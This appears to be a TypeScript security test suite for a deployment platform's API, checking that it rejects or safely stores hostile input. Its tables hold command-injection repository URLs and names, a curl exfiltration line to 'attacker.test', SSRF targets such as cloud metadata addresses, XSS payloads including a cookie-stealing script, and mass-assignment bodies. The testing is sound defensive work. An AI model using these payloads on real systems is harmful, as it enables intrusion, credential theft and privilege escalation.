// Addresses, names, domains and passwords that are sent for projects, environments and servers.
import { pullRequestWas, pushTo } from '../webhooks/deliveries.ts'
import type { Guarded } from './guarded.ts'
import { must } from './must.ts'
import { mustRefuse } from './must-refuse.ts'
import { numbered, scenarios, table } from './table.ts'
import type { World } from './world.ts'

const SHA = 'a'.repeat(40)

const addresses = numbered(
  'repo-url',
  [2, 5, 6, 8, 13, 16, 17, 18, 19, 20, 22, 23, 24, 25, 26, 28, 29, 30, 31],
  [
    'EXT::sh -c touch% $CANARY',
    '/etc',
    './../..',
    '-oProxyCommand=touch $CANARY:x',
    'http://example.com/x.git',
    'git@github.com:user/repo.git;curl https://attacker.test/ -X POST --data `whoami`',
    "https://github.com/user/repo.git';curl https://attacker.test/",
    'https://github.com/o/r.git$(touch $CANARY)',
    'https://github.com/o/r.git\n--upload-pack=x',
    'https:///example.com/foo.git',
    'https://one.example.com/evil?%0ahost=two.example.com',
    'http://example.com:test/foo.git',
    'https://github.com@evil.example/x.git',
    'https://github.com\\@evil.example/x.git',
    'javascript:alert(1)',
    'https://user:token@github.com/a/b.git',
    'https://[::1]/x.git',
    'https://0/x.git',
    'https://a.example/'.repeat(3000),
  ],
)

const privateAddresses = numbered(
  'ssrf',
  [2, 3, 4, 7, 8, 11, 12, 13, 14, 15, 16, 20],
  [
    'https://127.1/x.git',
    'https://2130706433/x.git',
    'https://0x7f000001/x.git',
    'https://169.254.169.254/latest/meta-data/',
    'https://metadata.google.internal/x',
    'https://①②⑦.0.0.1/x.git',
    'https://10.0.0.5/x.git',
    'https://192.168.1.1/x.git',
    'https://172.17.0.1:2375/containers/json',
    'https://100.100.100.200/x',
    'https://[fd00::1]/x',
    'ssh://git@127.0.0.1:22/x.git',
  ],
)

const names = [
  ...numbered(
    'name-shell',
    [1, 3, 4, 5, 6, 7, 12, 13, 14, 15, 18, 20],
    [
      'proj;touch $CANARY',
      'proj`touch $CANARY`',
      'proj|touch $CANARY',
      'proj&touch $CANARY',
      'proj&&touch $CANARY',
      'proj||touch $CANARY',
      "proj'$(touch $CANARY)'",
      'proj${IFS}$(touch${IFS}$CANARY)',
      'proj>$CANARY',
      'proj<(touch $CANARY)',
      'proj%0atouch%20$CANARY',
      'proj{touch,$CANARY}',
    ],
  ),
  ...numbered(
    'xss',
    [17, 18, 20, 21, 22, 23, 24, 26, 31],
    [
      "<script>fetch('//attacker.test/'+document.cookie)</script>",
      '<img src=x onerror=alert(1)>',
      'javascript:alert(1)',
      '<a href="javascript:alert(1)">x</a>',
      '{{7*7}}',
      '${7*7}',
      "<iframe srcdoc='<script>alert(1)</script>'>",
      '<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>',
      '[x](javascript:alert(1))',
    ],
  ),
]

/** They would move or hide other text in a list. */
const namesWithMarks = [
  ...numbered('name-shell', [16, 17], ['proj#\ntouch $CANARY', 'proj\\\ntouch $CANARY']),
  ...numbered('xss', [27, 30], ['\u202e\u2066evil', 'a\u2028b']),
]

/** What is shown where it is not what was sent: marks are left out of words that a git host sends. */
const titles = numbered<readonly [sent: string, shown?: string]>(
  'xss',
  [1, 2, 3, 4, 5, 7, 9, 11, 13, 15, 16],
  [
    ["<script>fetch('//attacker.test/'+document.cookie)</script>"],
    ['<img src=x onerror=alert(1)>'],
    ['"><svg/onload=alert(1)>'],
    ['javascript:alert(1)'],
    ['<a href="javascript:alert(1)">x</a>'],
    ['${7*7}'],
    ['</title><script>alert(1)</script>'],
    ['\u202e\u2066evil', 'evil'],
    ['\0x', 'x'],
    ['[x](javascript:alert(1))'],
    ['<!--<img src=--><img src=x onerror=alert(1)//>'],
  ],
)

const servers = numbered(
  'server-fields',
  [2, 3, 5, 9, 12],
  ['host;id', 'host\nProxyCommand x', '127.0.0.1 -p 22', '', '0'],
)

const passwordsThatAreNone = numbered('basic-auth', [2, 3], ['a\nb', ''])
const passwords = numbered('basic-auth', [4, 5, 6, 7], ['${X}', '$apr1$x', '`id`', 'é'])

const fields = numbered<Readonly<Record<string, unknown>>>(
  'mass-assign',
  [1, 3, 4, 5, 6, 7, 8, 11],
  [
    { set: [], unset: [], environment_id: 1 },
    { organization_id: 2 },
    { owner_id: 1 },
    { role: 'owner' },
    { is_platform_admin: true },
    { protected: false },
    { limit: 1000 },
    { constructor: { prototype: { admin: true } } },
  ],
)

export const projectTables = [
  ...table({
    surface: 'repository addresses',
    rows: addresses,
    holds: async (world: World, address: string) => mustRefuseAddress(await world.guarded(), address),
  }),
  ...table({
    surface: 'private addresses',
    rows: privateAddresses,
    holds: async (world: World, address: string) => {
      const guarded = await world.guarded()
      await mustRefuseAddress(guarded, address)
      await mustRefuse(guarded, '/url', [['POST', `/api/projects/${guarded.project.id}/hooks`, { url: address }]])
    },
  }),
  ...table({
    surface: 'names and titles',
    rows: names,
    holds: async (world: World, name: string) => {
      const guarded = await world.guarded()
      const { organizationId, project, environmentId, serverId } = guarded
      const kept = [
        [`/api/projects/${project.id}`, 'name'],
        [`/api/environments/${environmentId}`, 'title'],
        [`/api/organizations/${organizationId}`, 'name'],
        [`/api/servers/${serverId}`, 'name'],
      ] as const
      for (const [path, field] of kept) {
        const changed = await guarded.call('PATCH', path, { body: { [field]: name } })
        must(changed.status === 200, { path, status: changed.status, text: changed.text })
        const shown = await guarded.call('GET', path)
        must(shown.body[field] === name, shown.body[field])
        mustBeData(shown)
      }
      const { journey, environmentId: id, deployEnvironment, commit } = await world.manual()
      await journey.client.updateProject({ params: { id: journey.projectId }, body: { name } })
      await journey.client.updateEnvironment({ params: { id }, body: { title: name } })
      commit({ '.service.yml': 'services: { web: {} }\nmanual: { deploy: [{ name: Rest, run: "true" }] }\n' })
      const { status, failed_step: failedStep } = await deployEnvironment(id)
      must(status === 'succeeded', { status, failedStep })
    },
  }),
  ...table({
    surface: 'names with marks',
    rows: namesWithMarks,
    holds: async (world: World, name: string) => {
      const guarded = await world.guarded()
      const before = await guarded.records()
      const server = { name, hostname: 'one.example.com' }
      await mustRefuse(guarded, '/name', [
        ['PATCH', `/api/projects/${guarded.project.id}`, { name }],
        ['PATCH', `/api/organizations/${guarded.organizationId}`, { name }],
        ['POST', '/api/servers', server],
      ])
      await mustRefuse(guarded, '/title', [['PATCH', `/api/environments/${guarded.environmentId}`, { title: name }]])
      must((await guarded.records()) === before, 'a change')
    },
  }),
  ...table({
    surface: 'words of pull requests',
    rows: titles,
    holds: async (world: World, [sent, shown = sent]) => {
      const guarded = await world.guarded()
      const number = guarded.next()
      const opened = pullRequestWas('opened', { number, branch: 'feature', sha: SHA })
      const { pull_request: pullRequest } = opened
      const words = { title: sent, user: { login: sent }, head: { ...pullRequest.head, repo: { id: 2 } } }
      const payload = { ...opened, pull_request: { ...pullRequest, ...words } }
      must((await guarded.settle(payload, { event: 'pull_request' })).verdict === 'accepted', 'no environment')
      const list = await guarded.call('GET', `/api/projects/${guarded.project.id}/environments?limit=200`)
      const found = list.body.find((environment: { name: string }) => environment.name === `pr-${number}`)
      must(found?.pull_request.title === shown && found.pull_request.author === shown, found?.pull_request)
      mustBeData(list)
    },
  }),
  ...table({
    surface: 'servers',
    rows: servers,
    holds: async (world: World, text: string) => {
      const guarded = await world.guarded()
      const path = `/api/servers/${guarded.serverId}`
      const { text: before } = await guarded.call('GET', path)
      await mustRefuse(guarded, '/hostname', [
        ['POST', '/api/servers', { name: 'One', hostname: text }],
        ['PATCH', path, { hostname: text }],
      ])
      await mustRefuse(guarded, '/user', [['PATCH', path, { user: text }]])
      await mustRefuse(guarded, '/port', [['PATCH', path, { port: text }]])
      const { text: after } = await guarded.call('GET', path)
      must(after === before, after)
    },
  }),
  ...table({
    surface: 'passwords of environments',
    rows: passwordsThatAreNone,
    holds: async (world: World, text: string) => {
      const guarded = await world.guarded()
      await mustRefusePassword(guarded, 'username', text)
      await mustRefusePassword(guarded, 'password', text)
    },
  }),
  ...table({
    surface: 'passwords of environments',
    rows: numbered('basic-auth', [11], ['user with : colon']),
    holds: async (world: World, username: string) => mustRefusePassword(await world.guarded(), 'username', username),
  }),
  ...table({
    surface: 'passwords of environments',
    rows: passwords,
    holds: async (world: World, text: string) => {
      const guarded = await world.guarded()
      const path = `/api/environments/${guarded.environmentId}`
      const basic_auth = { username: text, password: `${text}-of-the-password` }
      const changed = await guarded.call('PATCH', path, { body: { basic_auth } })
      must(changed.status === 200 && changed.body.basic_auth?.username === text, changed.text)
      const shown = await guarded.call('GET', path)
      for (const answer of [changed, shown]) must(!answer.text.includes('-of-the-password'), answer.text)
    },
  }),
  ...table({
    surface: 'fields that are not for callers',
    rows: fields,
    holds: async (world: World, body) => {
      const guarded = await world.guarded()
      const before = await guarded.records()
      const { body: me } = await guarded.call('GET', '/api/me', { as: guarded.users.member })
      const paths = [`/api/environments/${guarded.environmentId}/variables`, '/api/me']
      // Some of them are fields of a project or an environment, for callers with more rights than a member has.
      const own = ['owner_id', 'protected'].some((field) => field in body)
      const all = own ? paths : [...paths, `/api/environments/${guarded.environmentId}`]
      for (const path of all) {
        const answer = await guarded.call('PATCH', path, { as: guarded.users.member, body })
        const codes = answer.body?.errors?.map((error: { code: string }) => error.code) ?? []
        must(answer.status === 422 && codes.includes('unknown_field'), { path, text: answer.text })
      }
      const project = await guarded.call('PATCH', `/api/projects/${guarded.project.id}`, {
        as: guarded.users.member,
        body,
      })
      must([403, 422].includes(project.status), project.text)
      must((await guarded.records()) === before, 'a change')
      const { body: after } = await guarded.call('GET', '/api/me', { as: guarded.users.member })
      must(JSON.stringify(after) === JSON.stringify(me), after)
    },
  }),
  ...scenarios('repositories that move', {
    'repo-repoint-001': async (world) => {
      const guarded = await world.guarded()
      const { client } = guarded
      const made = await client.createProject({
        body: {
          name: 'Moving',
          repo_url: 'https://git.good.example/a.git',
          domain: 'moving.example.com',
          server_ids: [guarded.serverId],
        },
      })
      const params = { id: made.id }
      await client.updateProject({ params, body: { host_token: 'token-of-the-good-host' } })
      const moved = await client.updateProject({ params, body: { repo_url: 'https://evil.example/a.git' } })
      must(!moved.has_host_token, 'the token of the earlier host')
      must(moved.repository_key !== made.repository_key, 'the key of the earlier host')
      must(moved.webhook !== undefined && moved.webhook.secret !== made.webhook.secret, moved.webhook)
    },
    'repo-repoint-002': async (world) => {
      const { journey, commit, openPullRequest, send } = await world.manual()
      const sha = commit({
        '.service.yml': 'services: { web: {} }\nmanual: { deploy: [{ name: Rest, run: "true" }] }\n',
      })
      // With it the platform knows which repository the project is.
      await openPullRequest({ branch: 'main', sha })
      const evil = { clone_url: 'https://evil.example/a.git', ssh_url: 'git@evil.example:a.git' }
      const pushed = pushTo('main', { after: sha })
      const other = await send('push', { ...pushed, repository: { id: 2, ...evil } })
      must(other.verdict === 'ignored' && other.reason === 'other_repository', other)
      await send('push', { ...pushed, repository: { id: 1, ...evil } })
      const { repo_url: kept } = await journey.client.getProject({ params: { id: journey.projectId } })
      must(kept.startsWith('ssh://') && kept.includes('127.0.0.1'), kept)
    },
  }),
]

async function mustRefuseAddress(guarded: Guarded, repo_url: string): Promise<void> {
  const before = await guarded.records()
  const made = { name: 'New', repo_url, domain: 'new.example.com', server_ids: [guarded.serverId] }
  await mustRefuse(guarded, '/repo_url', [
    ['POST', '/api/projects', made],
    ['PATCH', `/api/projects/${guarded.project.id}`, { repo_url }],
  ])
  must((await guarded.records()) === before, 'a change')
}

async function mustRefusePassword(guarded: Guarded, field: 'username' | 'password', text: string): Promise<void> {
  const basic_auth = { username: 'guest', password: 'a long password', [field]: text }
  const path = `/api/environments/${guarded.environmentId}`
  await mustRefuse(guarded, `/basic_auth/${field}`, [['PATCH', path, { basic_auth }]])
}

type Answered = Awaited<ReturnType<Guarded['call']>>

/** No browser shows it as a page, whatever it contains. */
function mustBeData({ headers }: Pick<Answered, 'headers'>): void {
  must(/^application\/json/.test(headers['content-type'] ?? ''), headers)
  must(headers['x-content-type-options'] === 'nosniff', headers)
}
